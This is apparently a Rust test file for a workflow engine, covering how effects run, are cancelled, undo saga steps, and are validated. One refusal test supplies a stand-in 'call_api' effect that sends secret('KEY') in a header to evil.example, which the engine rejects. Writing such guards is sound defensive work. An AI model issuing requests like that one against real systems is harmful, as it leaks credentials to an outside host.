//! Effects that an instance runs outside of its states.

use expect_test::{Expect, expect};
use traaviis_model::{
    limits::{ASKED_TREE_BYTES_MAX, ASKED_TREES_MAX},
    record::Asked,
};

use super::{
    Input, Machine, Operation, Timestamp, World, check, context, machine, step, with_head,
};

const SHOP: &str = r#"
initial: open
data: {initial: {sum: 1}}
events: {go: {}, poke: {}}
budgets: {calls: 3}
effects:
  charge: {type: call, function: charge, args: {sum: "${param.sum}", of: "${data.sum}"}}
  twice:
    type: saga
    steps:
      - {id: a, action: {type: call, function: a, args: {}}, compensation: {type: call, function: undo, args: {}}}
      - {id: b, action: {type: call, function: b, args: {}}}
states:
  open:
    on: {go: shut}
    invoke: [{id: i, effect: {type: wait_signal, event: poke}, onDone: shut, onError: shut}]
  shut: {type: final}
"#;

#[test]
fn a_named_effect_reads_what_is_given_and_its_value_stands_in_the_history() {
    check(
        SHOP,
        "run charge {\"sum\": 3}\nok charge/body 7",
        expect![[r#"
        > start
          - -> open
        > run charge {"sum": 3}
          asked charge
          reserve charge/body calls 1
          start charge/body#1
        > ok charge/body 7
          settle charge/body calls 1
          done charge/body = 7
          done charge = 7
    "#]],
    );
}

#[test]
fn how_it_ends_is_no_event() {
    check(
        SHOP,
        "run charge {\"sum\": 3}\nfail charge/body no_luck\nsend go",
        expect![[r#"
        > start
          - -> open
        > run charge {"sum": 3}
          asked charge
          reserve charge/body calls 1
          start charge/body#1
        > fail charge/body no_luck
          settle charge/body calls 1
          failed charge/body: no_luck
          failed charge: no_luck
        > send go
          go -> shut
          cancelled i/body: state_left
          cancelled i: state_left
          finished completed null
    "#]],
    );
}

#[test]
fn a_tree_that_is_given_has_steps_timers_and_the_data() {
    let given = r#"do {"type":"sequence","effects":{"z":{"type":"delay","duration":"5s"},"a":{"type":"put_data","key":"sum","value":"${data.sum + 1}"}}}"#;
    check(
        SHOP,
        &format!("{given}\n+5s"),
        expect![[r#"
        > start
          - -> open
        > do {"type":"sequence","effects":{"z":{"type":"delay","duration":"5s"},"a":{"type":"put_data","key":"sum","value":"${data.sum + 1}"}}}
          asked effect
        > at 5s
          done effect/body/z = null
          done effect/body/a = 2
          {"op":"replace","path":"/sum","value":2}
          done effect/body = {"a":2,"z":null}
          done effect = {"a":2,"z":null}
    "#]],
    );
}

#[test]
fn what_it_changes_is_seen_by_the_chart_like_any_change() {
    let document = "initial: a\ndata: {initial: {n: 0}}\nstates:\n  \
                    a: {always: [{target: b, guard: 'data.n > 0'}]}\n  b: {}\n";
    check(
        document,
        r#"do {"type":"put_data","key":"n","value":1}"#,
        expect![[r#"
        > start
          - -> a
        > do {"type":"put_data","key":"n","value":1}
          asked effect
          done effect/body = 1
          {"op":"replace","path":"/n","value":1}
          done effect = 1
          - -> b
    "#]],
    );
}

#[test]
fn called_off_it_undoes_what_it_did() {
    check(
        SHOP,
        "run twice\nok twice/body/a 1\ncall-off twice\nok twice/body/undo:a null\ncall-off twice",
        expect![[r#"
            > start
              - -> open
            > run twice
              asked twice
              reserve twice/body/a calls 1
              start twice/body/a#1
            > ok twice/body/a 1
              settle twice/body/a calls 1
              done twice/body/a = 1
              reserve twice/body/b calls 1
              start twice/body/b#1
            > call-off twice
              called off
              settle twice/body/b calls 1
              cancelled twice/body/b: cancelled
              undo twice/body
              reserve twice/body/undo:a calls 1
              start twice/body/undo:a#1
              undo twice
            > ok twice/body/undo:a null
              settle twice/body/undo:a calls 1
              emit budget.warning {"effect_id":"twice/body/undo:a","kind":"calls","limit":3,"place":"","reserved":0,"scope":"run","spent":3}
              done twice/body/undo:a = null
              cancelled twice/body: cancelled
              cancelled twice: cancelled
            > call-off twice
              refused invalid_state: no effect runs that record `0` has asked for
        "#]],
    );
}

#[test]
fn it_ends_with_the_instance() {
    check(
        SHOP,
        "run charge {\"sum\": 3}\nsend go",
        expect![[r#"
        > start
          - -> open
        > run charge {"sum": 3}
          asked charge
          reserve charge/body calls 1
          start charge/body#1
        > send go
          go -> shut
          cancelled i/body: state_left
          cancelled i: state_left
          settle charge/body calls 1
          cancelled charge/body: cancelled
          cancelled charge: cancelled
          finished completed null
    "#]],
    );
    check(
        SHOP,
        "run twice\nok twice/body/a 1\ncancel\nok twice/body/undo:a null",
        expect![[r#"
        > start
          - -> open
        > run twice
          asked twice
          reserve twice/body/a calls 1
          start twice/body/a#1
        > ok twice/body/a 1
          settle twice/body/a calls 1
          done twice/body/a = 1
          reserve twice/body/b calls 1
          start twice/body/b#1
        > cancel
          - -> 
          cancelled i/body: state_left
          cancelled i: state_left
          settle twice/body/b calls 1
          cancelled twice/body/b: cancelled
          undo twice/body
          reserve twice/body/undo:a calls 1
          start twice/body/undo:a#1
          undo twice
          completing cancelled
        > ok twice/body/undo:a null
          settle twice/body/undo:a calls 1
          emit budget.warning {"effect_id":"twice/body/undo:a","kind":"calls","limit":3,"place":"","reserved":0,"scope":"run","spent":3}
          done twice/body/undo:a = null
          cancelled twice/body: cancelled
          cancelled twice: cancelled
          finished cancelled null
    "#]],
    );
}

#[test]
fn it_waits_in_a_pause_and_nothing_new_begins_in_one() {
    check(
        SHOP,
        "run charge {\"sum\": 3}\npause\nok charge/body 7\nrun charge\ncall-off charge\nresume",
        expect![[r#"
            > start
              - -> open
            > run charge {"sum": 3}
              asked charge
              reserve charge/body calls 1
              start charge/body#1
            > pause
              paused
            > ok charge/body 7
              held
            > run charge
              refused instance_paused: the instance is paused; resume it first
            > call-off charge
              refused instance_paused: the instance is paused; resume it first
            > resume
              resumed
              released
              settle charge/body calls 1
              done charge/body = 7
              done charge = 7
        "#]],
    );
}

#[test]
fn an_effect_of_a_state_is_not_called_off() {
    check(
        SHOP,
        "call-off i\ncall-off nothing",
        expect![[r#"
        > start
          - -> open
        > call-off i
          refused invalid_state: effect `i` belongs to state `open`; it ends when the state is left
        > call-off nothing
          refused invalid_state: no effect runs that record `0` has asked for
    "#]],
    );
}

#[test]
fn what_has_ended_runs_nothing() {
    check(
        SHOP,
        "send go\nrun charge",
        expect![[r#"
        > start
          - -> open
        > send go
          go -> shut
          cancelled i/body: state_left
          cancelled i: state_left
          finished completed null
        > run charge
          refused instance_finished: the instance has ended with status `completed`
    "#]],
    );
}

fn refused(machine: &Machine, asked: Asked, expected: Expect) {
    let world = World::new(machine, traaviis_model::Value::empty_map());
    let input = Input::Operate(Operation::RunEffect { asked: Box::new(asked) });
    let why = step(machine, &world.snapshot, input, &context(Timestamp(0))).unwrap_err();
    let mut told = format!("{}: {}\n", why.code, why.message);
    for found in why.details.get("diagnostics").and_then(|it| it.as_list()).unwrap_or_default() {
        let text = |key: &str| found.get(key).and_then(|it| it.as_str()).unwrap_or_default();
        told += &format!("{} {} {}\n", text("code"), text("path"), text("message"));
    }
    expected.assert_eq(&told);
}

fn given(text: &str) -> Asked {
    Asked { tree: Some(text.into()), ..Asked::default() }
}

#[test]
fn a_tree_is_checked_as_at_publication_and_reaches_what_the_workflow_may() {
    let shop = machine(&with_head(SHOP));
    let called = |name: &str| Asked { effect: Some(name.into()), ..Asked::default() };
    refused(
        &shop,
        called("chrage"),
        expect![[r#"
        unknown_effect: `effects` has no effect `chrage`
        E140 /effect `effects` has no effect `chrage`
    "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"dleay"}"#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E140 /type unknown effect kind `dleay`
    "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"value","value":"${data.}"}"#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E130 /value expected a field name but found the end
    "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"call","function":"other","args":{}}"#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E150 /function this `call` reaches the tool `other`, which the workflow may not reach
    "#]],
    );
    refused(
        &shop,
        given(
            r#"{"type":"call_api","url":"https://evil.example/","headers":{"a":"${secret(\"KEY\")}"}}"#,
        ),
        expect![[r#"
            effect_invalid: the effect cannot be used: 1 findings
            E150 /url this `call_api` reaches the host `evil.example:443`, which the workflow may not reach
        "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"value","value":{"$secret":"KEY"}}"#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E101 /value/$secret the key `$secret` is reserved
    "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"wait_signal","event":"never"}"#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E106  event `never` is not declared
    "#]],
    );
    refused(
        &shop,
        given(r#"{"type":"value""#),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E101  the JSON does not parse: expected `,` or `}`, found the end
    "#]],
    );
    let large = format!(r#"{{"type":"value","value":"{}"}}"#, "x".repeat(ASKED_TREE_BYTES_MAX));
    refused(
        &shop,
        given(&large),
        expect![[r#"
        effect_invalid: the effect cannot be used: 1 findings
        E160  the effect has 65563 bytes; at most 65536 are allowed
    "#]],
    );
    let with = serde_json::from_str(r#"{"a":{"$secret":"KEY"}}"#).unwrap();
    refused(
        &shop,
        Asked { with, ..called("charge") },
        expect![[r#"
        validation_failed: `with` holds an object with the reserved key `$secret`; only a workflow names secrets
    "#]],
    );
}

#[test]
fn a_secret_is_named_by_the_document_alone() {
    let document = r#"
initial: s
effects:
  paid: {type: call_api, url: "https://api.example/", headers: {key: "${secret('KEY')}"}}
states: {s: {}}
"#;
    check(
        document,
        "run paid",
        expect![[r#"
        > start
          - -> s
        > run paid
          asked paid
          start paid/body#1
    "#]],
    );
    let given = r#"do {"type":"use","effect":"paid"}"#;
    check(
        document,
        given,
        expect![[r#"
        > start
          - -> s
        > do {"type":"use","effect":"paid"}
          asked effect
          start effect/body/body#1
    "#]],
    );
    let own = r#"do {"type":"call_api","url":"https://api.example/","headers":{"key":"${secret('KEY')}"}}"#;
    check(
        document,
        own,
        expect![[r#"
        > start
          - -> s
        > do {"type":"call_api","url":"https://api.example/","headers":{"key":"${secret('KEY')}"}}
          refused effect_invalid: the effect cannot be used: 1 findings
    "#]],
    );
}

#[test]
fn an_instance_runs_no_more_than_a_few() {
    let shop = machine(&with_head(SHOP));
    let mut world = World::new(&shop, traaviis_model::Value::empty_map());
    for _ in 0..ASKED_TREES_MAX {
        world.line(r#"do {"type":"delay","duration":"1h"}"#);
    }
    let (runs, out) = (world.snapshot.trees.len(), world.out.len());
    world.line(r#"do {"type":"delay","duration":"1h"}"#);
    assert_eq!(world.snapshot.trees.len(), runs);
    assert!(world.out[out..].contains("refused effect_limit"), "{}", &world.out[out..]);
}

#[test]
fn an_effect_for_any_workflow_is_checked_without_one() {
    let codes = |text: &str| -> Vec<&str> {
        Machine::check_effect(text).iter().map(|it| it.code).collect()
    };
    for (text, expected) in [
        (r#"{"type":"call","function":"charge","args":{"sum":"${param.sum}"}}"#, &[][..]),
        (r#"{"type":"wait_signal","event":"anything"}"#, &[]),
        (r#"{"type":"call"}"#, &["E140"]),
        (r#"{"type":"use","effect":"charge"}"#, &["E140"]),
        (r#"{"type":"value","value":"${nothing.a}"}"#, &["E131"]),
    ] {
        assert_eq!(codes(text), expected, "{text}");
    }
}
